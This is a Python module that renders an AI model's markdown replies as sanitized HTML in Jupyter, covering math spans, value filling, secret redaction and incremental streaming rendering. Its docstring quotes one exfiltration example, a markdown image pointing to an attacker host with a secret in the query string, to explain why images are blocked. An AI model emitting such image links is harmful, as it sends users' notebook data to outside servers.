r"""The response as HTML: safe markdown, math kept as math, ``$name`` filled in, streamed cheaply.

Safety: markdown-it-py's CommonMark with raw HTML off, so ``<script>`` written by the
model comes out as text; links only with ``http``, ``https``, ``mailto`` or no scheme at
all. Images are not loaded unless they are inline ``data:image/{png,jpeg,gif,webp}``:
any other image (``![chart](https://attacker.example/p.png?c=secret)``, the classic way
to send notebook data to a server) becomes a link with its alt text, ``🖼 chart``. Code
is highlighted by Pygments into inline styles, so a saved notebook shows colours with no
stylesheet.

Dollars: ``$name`` is filled before math is read, by the runtime's one rule
(``cortex_jupyter.runtime.core.values.answer``, which the run record's ``.answer`` and the terminal
use too): this module only renders each span it finds. A value is text (escaped, never
parsed or typeset), except a rich object (a DataFrame, a figure), which shows its rich
form, sanitized as the inspector sanitizes it (``rich.rich_html``).

Math in the HTML: each formula is ``<span class="cortex-math">`` holding the formula with
its own delimiters (``$x$``, ``$$E=mc^2$$``, ``\(x\)``), which JupyterLab / Notebook 7's
MathJax typesets (inline ``$``/``\(``, display ``$$``/``\[``) in text/html outputs and in an
``ipywidgets.HTMLMath``; where no MathJax runs (GitHub, VS Code) it reads as written.
Every other ``$`` and ``\`` in text, and in filled values, is an entity inside
``<span class="mathjax_ignore tex2jax_ignore">``: MathJax 3 breaks its search at element
boundaries and skips that class (MathJax 2 the second), so ``costs $5 and $10`` is never
typeset, and it still reads ``$`` everywhere. The live view must show this HTML with
``ipywidgets.HTMLMath`` (plain ``HTML`` does not typeset). A formula never spans two
blocks, so cutting the HTML at ``cached_html`` never splits one.

Streaming: rendering a 16 KB document costs ~35 ms (NOTES.md), and a reply is redrawn up
to 25 times a second, so ``IncrementalMarkdown`` renders finished blocks once and on each
update re-parses only the tail. A block is finished when the next top-level block starts
on a complete line after a blank line: CommonMark can then no longer change it (nothing
re-opens a closed block after a blank line, and the next block's start line is fixed;
math is inline, inside one block). Two things reach across blocks and are handled by
starting over: link reference definitions (``[x]: url`` anywhere defines ``[x]``
everywhere) and ``$name`` values that changed since a block was cached. The output
equals a full render at every step; the tests check that over many chunkings.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

from cortex_jupyter.runtime.core.trust import secrets
from cortex_jupyter.runtime.core.values.answer import lookup

from . import commonmark
from .commonmark import LITERAL_CLASS, MATH_CLASS, normalize
from .rich import rich_html

__all__ = ["LITERAL_CLASS", "MATH_CLASS", "IncrementalMarkdown", "make_parser", "render_markdown"]

_MAYBE_DEFINITION = re.compile(r"^ {0,3}\[", re.MULTILINE)


def make_parser(highlight: bool = True) -> MarkdownIt:
    """The answer's parser (``commonmark.make_parser``): a ``$name`` that stands for a
    rich value shows its rich form, sanitized as the inspector shows it."""
    return commonmark.make_parser(highlight, rich=rich_html)


_default_parser: MarkdownIt | None = None


def render_markdown(text: str, values: Mapping[str, Any] | None = None) -> str:
    """The whole of ``text`` as HTML in one go (a saved snapshot, or a reference);
    secrets redacted in the source (markdown rewrites ``*``, ``\\_``, ``&amp;``...: a
    secret rendered is another text)."""
    global _default_parser
    if _default_parser is None:
        _default_parser = make_parser()
    return commonmark.render(_default_parser, secrets.redact(text), values)


class IncrementalMarkdown:
    """Renders a growing markdown document, re-parsing only its unfinished tail.

    Call ``render(text, values)`` with the whole text so far on every redraw. Counters
    for the benchmark and the tests: ``renders`` (calls), ``restarts`` (full re-renders
    forced by a new link definition, a changed value or a text that is not an
    extension of the last one), ``parsed_chars`` (characters parsed, in total) and
    ``last_parsed`` (in the last call).
    """

    def __init__(self, parser: MarkdownIt | None = None) -> None:
        self._md = parser if parser is not None else make_parser()
        self.renders = 0
        self.restarts = 0
        self.parsed_chars = 0
        self.last_parsed = 0
        self.reset()

    def reset(self) -> None:
        """Forget every cached block."""
        self._done_src = ""
        self._done_html = ""  # the HTML of the cached (finished) blocks
        self._committed_refs: dict[str, Any] = {}  # link labels defined in cached blocks
        self._render_refs: dict[str, Any] = {}  # all labels the cached HTML was made with
        self._used: dict[str, str | None] = {}

    @property
    def cached_chars(self) -> int:
        """Characters of source whose HTML is cached (not parsed again)."""
        return len(self._done_src)

    @property
    def cached_html(self) -> str:
        """The HTML of the blocks already finished: settled until the next restart.

        Every ``render`` returns it as a prefix, so a view may send it once and then
        only what follows it.
        """
        return self._done_html

    def render(self, text: str, values: Mapping[str, Any] | None = None) -> str:
        self.renders += 1
        text = normalize(secrets.redact(text))  # in the source: see ``render_markdown``
        values = values or {}
        if self._done_src and (not text.startswith(self._done_src) or self._stale(values)):
            self.restarts += 1
            self.reset()
        html = self._render_tail(text, values)
        if html is None:  # the tail defined a link label the cached blocks may use
            self.restarts += 1
            self.reset()
            html = self._render_tail(text, values)
            assert html is not None
        return html

    def _stale(self, values: Mapping[str, Any]) -> bool:
        return any(lookup(ref, values) != shown for ref, shown in self._used.items())

    def _render_tail(self, text: str, values: Mapping[str, Any]) -> str | None:
        tail = text[len(self._done_src) :]
        env: dict[str, Any] = {
            "references": dict(self._committed_refs),
            "cortex_values": values,
            "cortex_used": {},
        }
        tokens = self._md.parse(tail, env)
        self.parsed_chars += len(tail)
        self.last_parsed = len(tail)
        if not self._done_src:
            self._render_refs = dict(env["references"])
        elif env["references"] != self._render_refs:
            return None  # a link label appeared or changed: cached blocks may use it
        cut = _finished(tokens, tail)
        options = self._md.options
        if cut is None:
            return self._done_html + str(self._md.renderer.render(tokens, options, env))
        index, offset = cut
        self._done_html += str(self._md.renderer.render(tokens[:index], options, env))
        self._commit(tail[:offset])
        self._used.update(env["cortex_used"])
        return self._done_html + str(self._md.renderer.render(tokens[index:], options, env))

    def _commit(self, source: str) -> None:
        self._done_src += source
        if _MAYBE_DEFINITION.search(source):
            env: dict[str, Any] = {"references": dict(self._committed_refs)}
            self._md.parse(source, env)
            self._committed_refs = env["references"]


def _finished(tokens: Sequence[Token], tail: str) -> tuple[int, int] | None:
    """Where the finished blocks of ``tail`` end: (token index, character offset).

    The cut goes before the last top-level block that starts on a complete line right
    after a blank line; ``None`` when there is no such block yet.
    """
    lines = tail.split("\n")
    complete = len(lines) - 1  # the last line may still be growing
    for index in range(len(tokens) - 1, 0, -1):
        token = tokens[index]
        if token.level != 0 or token.nesting == -1 or token.map is None:
            continue
        line = token.map[0]
        if 0 < line < complete and not lines[line - 1].strip(" \t"):
            offset = sum(len(lines[i]) + 1 for i in range(line))
            return index, offset
    return None
